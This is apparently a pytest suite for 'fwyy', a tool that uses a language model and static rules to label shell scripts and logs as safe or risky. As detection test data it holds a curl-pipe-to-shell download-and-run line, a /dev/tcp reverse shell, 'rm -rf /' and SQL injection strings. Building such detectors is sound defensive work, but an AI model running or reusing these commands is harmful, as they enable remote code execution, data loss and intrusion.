"""`fwyy analyze` and `from fwyy_ollama import analyze`: one report, a JSON shape scripts can trust,
exit statuses a pipeline can gate on (0 safe, 1 risky, 2 error), and clear messages for bad input.

The Ollama path talks to tests/fake_ollama.py through the real client (a deterministic four-part
reply); the local path runs llama.cpp on the demo GGUF for real.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import jsonschema
import pytest

from fwyy_ollama.analysis import (
    MAX_READ_BYTES,
    AnalysisResult,
    analyze_file,
    decode_input,
    prepare_analysis,
    read_input,
    result_json_schema,
)
from fwyy_ollama.errors import FwyyError
from fwyy_ollama.prompts import system_prompt
from fwyy_ollama.report import Label, Report, report_json_schema
from fwyy_ollama.runtime import LocalBackend, demo_gguf
from tests.fake_ollama import DEFAULT_REPLY, FakeOllama, fake_ollama_fixture  # noqa: F401

FWYY = str(Path(sys.executable).with_name("fwyy"))
SAFE_JSON = json.dumps(
    {
        "analysis": "Lists the files of the current folder.",
        "label": "safe",
        "risk": "none",
        "solution": "Nothing to fix.",
    }
)


def fwyy(
    *args: str, stdin: bytes | None = None, host: str = "http://127.0.0.1:9"
) -> subprocess.CompletedProcess:
    env = dict(os.environ, OLLAMA_HOST=host, OMP_NUM_THREADS="1", COLUMNS="200")
    # An empty working folder: a build the developer made in ./out must not become the default model.
    with tempfile.TemporaryDirectory() as cwd:
        return subprocess.run([FWYY, *args], input=stdin, capture_output=True, env=env, timeout=300, cwd=cwd)


def as_json(proc: subprocess.CompletedProcess) -> dict:
    out = json.loads(proc.stdout)
    jsonschema.validate(out, result_json_schema())
    return out


@pytest.fixture
def script(tmp_path: Path) -> Path:
    path = tmp_path / "install.sh"
    path.write_text("#!/bin/sh\ncurl http://198.51.100.7/x.sh | sh\n")
    return path


def test_schema_is_a_valid_json_schema() -> None:
    jsonschema.Draft202012Validator.check_schema(result_json_schema())
    ok = AnalysisResult(
        report=Report("a", Label.HIGH, "r", "s"), raw="", model="m", backend="local", latency_s=0.5
    ).to_json()
    jsonschema.validate(ok, result_json_schema())
    # The report part of a success is exactly the report's own schema.
    jsonschema.validate({k: ok[k] for k in ("analysis", "label", "risk", "solution")}, report_json_schema())
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({**ok, "label": "severe"}, result_json_schema())
    with pytest.raises(jsonschema.ValidationError):  # a success may not carry an error
        jsonschema.validate({**ok, "error": "x"}, result_json_schema())


def test_risky_report_exits_1_and_asks_ollama_for_structured_output(
    fake_ollama: FakeOllama, script: Path
) -> None:
    fake_ollama.add_model("fwyy-qwen2")
    proc = fwyy("analyze", str(script), "--json", "--model", "fwyy-qwen2", host=fake_ollama.host)
    assert proc.returncode == 1, proc.stderr
    out = as_json(proc)
    assert out["label"] == "high" and out["backend"] == "ollama" and out["model"] == "fwyy-qwen2"
    assert out["analysis"].startswith("The command pipes") and out["error"] is None
    assert out["latency_s"] >= 0 and out["truncated"] is False
    body = fake_ollama.requests_to("/api/chat")[-1].body
    assert body["format"] == report_json_schema()
    system, user = body["messages"]
    assert system == {"role": "system", "content": system_prompt("zh")}  # fwyy-qwen2 is a zh profile
    assert user["role"] == "user" and "curl http://198.51.100.7/x.sh | sh" in user["content"]


def test_safe_json_answer_exits_0_and_plain_output_shows_the_report(
    fake_ollama: FakeOllama, tmp_path: Path
) -> None:
    fake_ollama.add_model("fwyy-llama3")
    fake_ollama.reply = SAFE_JSON
    (tmp_path / "cmd.txt").write_text("ls -la\n")
    proc = fwyy("analyze", str(tmp_path / "cmd.txt"), "--json", "-m", "fwyy-llama3", host=fake_ollama.host)
    assert proc.returncode == 0, proc.stderr
    assert as_json(proc)["label"] == "safe"
    system = fake_ollama.requests_to("/api/chat")[-1].body["messages"][0]["content"]
    assert system == system_prompt("en")  # fwyy-llama3 is an en profile
    proc = fwyy("analyze", "-", "-m", "fwyy-llama3", "--lang", "zh", stdin=b"ls -la\n", host=fake_ollama.host)
    assert proc.returncode == 0
    shown = proc.stdout.decode()
    assert "SAFE" in shown and "Lists the files" in shown and "标签" in shown


def test_answer_not_in_the_format_fails_closed_with_exit_1(fake_ollama: FakeOllama, script: Path) -> None:
    """No report is no verdict of "safe": exit 1 like risky, never 2 (which means a real error)."""
    fake_ollama.add_model("fwyy-qwen2")
    fake_ollama.reply = "I think this is probably fine, but who knows."
    for constrain in ([], ["--no-constrain"]):  # a daemon ignoring format= fails the same way
        proc = fwyy("analyze", str(script), "--json", *constrain, host=fake_ollama.host)
        assert proc.returncode == 1
        out = as_json(proc)
        assert out["label"] is None and out["raw"] == fake_ollama.reply and out["verdict"] == "unconfirmed"
        assert "did not answer in the four-part report format" in out["error"]
        assert out["constrained"] is not bool(constrain)
        body = fake_ollama.requests_to("/api/chat")[-1].body
        assert (body.get("format") == report_json_schema()) is not bool(constrain)
    proc = fwyy("analyze", str(script), "--no-constrain", host=fake_ollama.host)
    assert proc.returncode == 1
    err = proc.stderr.decode()
    assert "could not confirm safe" in err and "did not answer in the four-part report format" in err
    assert "who knows" in err and "unconstrained" in err  # the raw answer is shown for the person to judge


def test_python_api_never_raises_on_an_answer_that_is_not_a_report(fake_ollama: FakeOllama) -> None:
    from fwyy_ollama import analyze

    fake_ollama.add_model("fwyy-qwen2")
    fake_ollama.reply = "No idea."
    result = analyze("ls", model="fwyy-qwen2", constrain=False)
    assert result.report is None and result.label is None and result.verdict == "unconfirmed"
    assert not result.is_safe and result.exit_code == 1 and result.raw == "No idea."
    assert "format" not in fake_ollama.requests_to("/api/chat")[-1].body
    jsonschema.validate(result.to_json(), result_json_schema())
    fake_ollama.reply = SAFE_JSON
    result = analyze("ls", model="fwyy-qwen2")
    assert result.verdict == "safe" and result.is_safe and result.exit_code == 0 and result.constrained


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "is empty"),
        (b"  \n\t\n", "is empty"),
        (b"\x7fELF\x02\x01\x01\x00\x00\x00" + bytes(range(256)), "binary file"),
        (bytes(range(1, 32)) * 20, "binary file"),
        (b"\xff\xfe\xfa\xfb" * 100, "neither UTF-8 nor GB18030"),
    ],
)
def test_bad_input_exits_2_before_any_model(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "input"
    path.write_bytes(content)
    for args in ([str(path)], ["-"]):
        proc = fwyy("analyze", *args, "--backend", "ollama", stdin=content)  # no daemon: never reached
        assert proc.returncode == 2
        err = " ".join(proc.stderr.decode().split())
        assert message in err and "Traceback" not in err
        proc = fwyy("analyze", *args, "--json", "--backend", "ollama", stdin=content)
        assert proc.returncode == 2 and message in as_json(proc)["error"]


def test_missing_file_folder_and_daemon_down_exit_2(tmp_path: Path, script: Path) -> None:
    proc = fwyy("analyze", str(tmp_path / "nope.txt"))
    assert proc.returncode == 2 and "no such file" in proc.stderr.decode()
    proc = fwyy("analyze", str(tmp_path))
    assert proc.returncode == 2 and "is a folder" in proc.stderr.decode()
    proc = fwyy("analyze", str(script), "--backend", "ollama", "--json")
    assert proc.returncode == 2  # a down daemon must not read as "risky" (1)
    out = as_json(proc)
    assert "cannot reach the Ollama daemon at http://127.0.0.1:9" in out["error"]


def test_text_encodings_are_read_and_nothing_is_executed(tmp_path: Path) -> None:
    assert decode_input("rm -rf / # 删除所有文件".encode("gb18030")) == "rm -rf / # 删除所有文件"
    assert decode_input("\ufeffutf-8 with BOM".encode()) == "utf-8 with BOM"
    marker = tmp_path / "RAN"
    runnable = tmp_path / "run.sh"
    runnable.write_text(f"#!/bin/sh\ntouch {marker}\n")
    runnable.chmod(0o755)
    text, longer = read_input(runnable)
    assert text.startswith("#!/bin/sh") and not longer and not marker.exists()
    # A file bigger than anything a context holds is read only in part; a cut multibyte char is fine.
    big = tmp_path / "big.log"
    big.write_bytes(b"a" * (MAX_READ_BYTES - 1) + "风".encode() + b"tail")
    text, longer = read_input(big)
    assert longer and len(text) == MAX_READ_BYTES - 1


def test_python_api_returns_a_typed_report(fake_ollama: FakeOllama) -> None:
    from fwyy_ollama import analyze

    fake_ollama.add_model("fwyy-qwen2")
    seen: list[str] = []
    result = analyze("curl http://198.51.100.7/x.sh | sh", model="fwyy-qwen2", on_token=seen.append)
    assert isinstance(result.report, Report) and result.label is Label.HIGH
    assert result.exit_code == 1 and result.backend == "ollama" and result.error is None
    assert len(seen) > 1 and "".join(seen) == result.raw == DEFAULT_REPLY
    with pytest.raises(FwyyError, match="is empty") as info:
        analyze("   ")
    assert info.value.exit_code == 2


def test_huge_input_is_cut_at_the_context_with_a_notice(fake_ollama: FakeOllama) -> None:
    from fwyy_ollama import analyze

    fake_ollama.add_model("fwyy-smollm2")  # num_ctx 2048 in its profile
    log = "".join(
        f"Nov 25 10:{i % 60:02d}:00 sshd[42]: Failed password for root from 203.0.113.{i % 250}\n"
        for i in range(3000)
    )
    result = analyze(log, model="fwyy-smollm2")
    assert result.truncated and "input truncated" in result.notice and "2048 tokens" in result.notice
    sent = fake_ollama.requests_to("/api/chat")[-1].body["messages"][1]["content"]
    assert len(sent) < len(log) / 5 and "[input truncated here" in sent
    assert result.to_json()["truncated"] is True and result.label is Label.HIGH


def test_local_backend_cuts_huge_input_exactly_to_fit(tmp_path: Path) -> None:

    log = "".join(f"GET /index.php?id={i}' OR '1'='1 HTTP/1.1 200\n" for i in range(2000))
    path = tmp_path / "access.log"
    path.write_text(log)
    # A small context keeps the prompt (and the test) short; the cut is the same code at any size.
    with LocalBackend(demo_gguf(), n_ctx=768, n_threads=1, options={"temperature": 0.0}) as small:
        result = analyze_file(path, backend=small, options={"num_predict": 4})
        # llama.cpp raises when a prompt does not fit its context: this one did.
        assert result.truncated and result.backend == "local" and result.raw
        assert "768 tokens" in result.notice
        # Room is kept for the answer (a quarter of the context here), and the prompt fills the
        # rest up to a small margin for the chat template's tokens: the cut is not wasteful.
        for lang in ("en", "zh"):
            request = prepare_analysis(small, log, lang=lang)
            prompt = sum(small.count_tokens(m["content"]) for m in request.messages)
            assert 768 - 192 - 100 < prompt <= 768 - 192, (lang, prompt)
        assert prepare_analysis(small, "ls -la").notice is None


def test_cli_json_on_the_local_demo_validates(script: Path, tmp_path: Path) -> None:
    """The untuned demo model, constrained by the report grammar (the default), writes a report
    that parses; the status follows its label. Cut by --max-tokens it fails closed (1), not 2."""
    args = ["analyze", str(script), "--json", "--backend", "local", "--threads", "1", "--ctx", "2048"]
    proc = fwyy(*args, "--out", str(tmp_path))
    out = as_json(proc)
    assert out["backend"] == "local" and out["model"] == "SmolLM2-135M-Instruct.Q4_1.gguf"
    assert "demo GGUF" in out["source"] and out["constrained"] is True
    assert out["error"] is None, out["raw"]
    assert proc.returncode == (0 if out["label"] == "safe" else 1)
    proc = fwyy(*args, "--out", str(tmp_path), "--max-tokens", "24")
    out = as_json(proc)
    assert proc.returncode == 1 and out["verdict"] == "unconfirmed" and out["raw"].startswith("Analysis: ")
    assert "cut: by --max-tokens or the context" in out["error"]


def test_the_instruction_is_one_the_model_was_trained_on() -> None:
    from fwyy_ollama.analysis import INSTRUCTIONS, build_messages
    from fwyy_ollama.findings import findings_line
    from fwyy_ollama.resources import data_dir

    taught = {json.loads(line)["instruction"] for line in (data_dir() / "security.train.jsonl").open()}
    assert set(INSTRUCTIONS.values()) <= taught
    system, user = build_messages("ls -la", "en", findings=False)
    # The same layout as training: instruction, blank line, input; with fwyy's static-check line
    # (the default, as most training records show it) between the instruction and the blank line.
    assert user["content"] == f"{INSTRUCTIONS['en']}\n\nls -la" and system["content"] == system_prompt("en")
    _, user = build_messages("ls -la", "en")
    assert user["content"] == f"{INSTRUCTIONS['en']}\n{findings_line('ls -la')}\n\nls -la"


def test_output_off_a_terminal_is_never_wrapped_or_cut(fake_ollama: FakeOllama, tmp_path: Path) -> None:
    """To a pipe or a file: the report's own lines under a title, whatever their length."""
    fake_ollama.add_model("fwyy-llama3")
    analysis = "The script " + "downloads a payload and runs it with root rights " * 8 + "(CWE-494)."
    fake_ollama.reply = json.dumps(
        {"analysis": analysis, "label": "critical", "risk": "Full compromise.", "solution": "Do not run it."}
    )
    deep = tmp_path / ("d" * 120) / ("e" * 120)
    deep.mkdir(parents=True)
    path = deep / "install.sh"
    path.write_text("curl -s http://198.51.100.7/x | sudo sh\n")
    env = dict(os.environ, OLLAMA_HOST=fake_ollama.host)
    env.pop("COLUMNS", None)  # rich's default width for a pipe is 80 columns
    proc = subprocess.run(
        [FWYY, "analyze", str(path), "-m", "fwyy-llama3"], capture_output=True, env=env, timeout=120
    )
    assert proc.returncode == 1, proc.stderr
    lines = proc.stdout.decode().splitlines()
    assert lines == [
        f"{path} · CRITICAL",
        f"Analysis: {analysis}",
        "Label: critical",
        "Risk: Full compromise.",
        "Solution: Do not run it.",
    ]
    assert "…" not in proc.stdout.decode() + proc.stderr.decode()
    # The REPL's answers off a terminal: the text as it came (markdown laid out for an unknown
    # width would wrap it, or drop list items).
    import io

    from fwyy_ollama.cli.common import PlainConsole
    from fwyy_ollama.repl import ChatSession
    from fwyy_ollama.runtime import OllamaBackend

    fake_ollama.reply = "Two steps:\n\n- item one " + "x" * 150 + "\n- item two"
    buf = io.StringIO()
    be = OllamaBackend("fwyy-llama3", host=fake_ollama.host)
    ChatSession(backend=be, console=PlainConsole(file=buf), lang="en").ask("how?")
    be.close()
    assert fake_ollama.reply in buf.getvalue()


def test_a_high_static_finding_vetoes_a_safe_answer(fake_ollama: FakeOllama, tmp_path: Path) -> None:
    """The model says safe to a /dev/tcp reverse shell: the report says critical, and says why."""
    fake_ollama.add_model("fwyy-llama3")
    fake_ollama.reply = SAFE_JSON
    shell = tmp_path / "backup.sh"
    shell.write_text("#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
    proc = fwyy("analyze", str(shell), "--json", "-m", "fwyy-llama3", host=fake_ollama.host)
    assert proc.returncode == 1, proc.stderr
    out = as_json(proc)
    assert (out["label"], out["verdict"], out["model_label"]) == ("critical", "risky", "safe")
    assert out["raised_by"]["rule"] == "bash:revshell" and out["raised_by"]["cwe"] == "CWE-506"
    # The report is the rules' own (a "safe" analysis and "Risk: None" under a critical label would
    # contradict it); the model's answer is kept in raw.
    assert "/dev/tcp/" in out["analysis"] and "reverse shell" in out["analysis"]
    assert "CWE-506" in out["risk"] and out["risk"] != "None." and "Do not run it" in out["solution"]
    assert json.loads(out["raw"])["analysis"] == "Lists the files of the current folder."
    proc = fwyy("analyze", str(shell), "-m", "fwyy-llama3", host=fake_ollama.host)
    assert proc.returncode == 1
    err = " ".join(proc.stderr.decode().split())
    assert "the model said safe; fwyy's static checks raised it to critical and wrote the report" in err
    assert "/dev/tcp/" in err and "--no-veto keeps the model's report" in err
    shown = " ".join(proc.stdout.decode().split())
    assert "CRITICAL" in shown and "Lists the files" not in shown and "CWE-506" in shown
    for off in (["--no-veto"], ["--no-findings"]):  # the model's own verdict, as before
        proc = fwyy("analyze", str(shell), "--json", "-m", "fwyy-llama3", *off, host=fake_ollama.host)
        assert proc.returncode == 0, off
        out = as_json(proc)
        assert (out["label"], out["model_label"], out["raised_by"]) == ("safe", "safe", None)
        assert out["analysis"] == "Lists the files of the current folder." and "raw" not in out


def test_the_veto_leaves_risky_labels_and_medium_rules_alone(fake_ollama: FakeOllama, tmp_path: Path) -> None:
    from fwyy_ollama import analyze

    fake_ollama.add_model("fwyy-llama3")
    # A risky label stands as the model gave it, even below the rule's severity.
    fake_ollama.reply = SAFE_JSON.replace('"safe"', '"low"')
    result = analyze("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", model="fwyy-llama3")
    assert result.label is Label.LOW and result.raised_by is None and result.veto_note is None
    # A medium rule (an encoded payload, a quote in SQL) is a hint for the model, never a veto.
    fake_ollama.reply = SAFE_JSON
    for text in ("curl -o /tmp/x https://example.com/x", "SELECT name FROM users WHERE id = '7'"):
        result = analyze(text, model="fwyy-llama3")
        assert result.label is Label.SAFE and result.exit_code == 0, text
